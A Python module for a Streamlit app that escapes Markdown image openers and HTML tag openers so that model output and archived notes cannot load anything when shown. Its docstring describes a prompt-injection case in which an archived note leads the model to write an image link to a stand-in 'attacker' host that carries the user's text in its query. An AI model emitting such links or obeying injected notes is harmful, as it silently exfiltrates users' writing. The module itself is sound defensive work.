"""Markdown that cannot load anything: model output and archive text made inert before display.

Streamlit's ``st.markdown`` escapes raw HTML when ``unsafe_allow_html`` is off, but it still
renders Markdown images, and an image is fetched the moment it is shown. A note in the
archive can carry a prompt injection that makes the model write
``![x](https://attacker/?q=<what you wrote>)``: showing that answer would send the writing
away without a click. So every image opener ``![`` is escaped (the text is shown as
written, inert), and every ``<`` that could open an HTML tag or an autolink is escaped too,
in case a future Streamlit renders HTML by default. Links stay links: they need a click.

The escaping is applied everywhere, code spans and blocks included. Telling code from
prose exactly is CommonMark's job; getting it wrong here would let an image through,
whereas escaping inside code only shows a stray backslash in the rare code that holds
``![`` or a tag.
"""

from __future__ import annotations

import re
from typing import Any

import streamlit as st

# "![" opens an image (inline, reference or shortcut): escaping its "[" leaves text.
_IMAGE_OPENER = re.compile(r"!\[")
# "<" that can start a tag, a comment, a declaration or an autolink, with the backslashes
# before it: an odd run already escapes it, an even run is only literal backslashes.
_TAG_OPENER = re.compile(r"(\\*)<(?=[A-Za-z/!?])")


def inert(text: str) -> str:
    """``text`` as Markdown that renders the same words but loads no image and no HTML."""
    text = _IMAGE_OPENER.sub(r"!\\[", text)
    return _TAG_OPENER.sub(_escape_tag, text)


def _escape_tag(match: re.Match[str]) -> str:
    backslashes = match.group(1)
    if len(backslashes) % 2:
        return match.group(0)
    return backslashes + "\\<"


def show(text: str, target: Any = st) -> None:
    """Render ``text`` with ``st.markdown`` (or a container's), inert and with HTML off."""
    target.markdown(inert(text), unsafe_allow_html=False)


def caption(text: str) -> None:
    """``st.caption`` of ``text``, inert and with HTML off."""
    st.caption(inert(text), unsafe_allow_html=False)
